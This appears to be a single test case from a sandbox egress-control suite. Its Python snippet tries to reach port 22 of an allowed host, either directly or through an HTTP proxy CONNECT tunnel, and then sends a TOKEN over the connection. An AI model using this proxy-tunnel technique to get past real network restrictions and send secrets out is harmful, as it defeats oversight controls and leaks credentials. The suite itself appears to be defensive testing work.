# title: asks for another port of an allowed host
# harm: reaches
# egress: public.example:443
# B: no network at all
# C: the egress list names the port
proxy = 'HTTP_PROXY' in env
s = socket.create_connection(('192.0.2.1', 3128) if proxy else ('93.184.216.34', 22), 2); s.settimeout(1)
if proxy: s.send(b'CONNECT public.example:22 HTTP/1.1\r\n\r\n'); print(s.recv(200))
s.send(TOKEN.encode()); time.sleep(0.3)
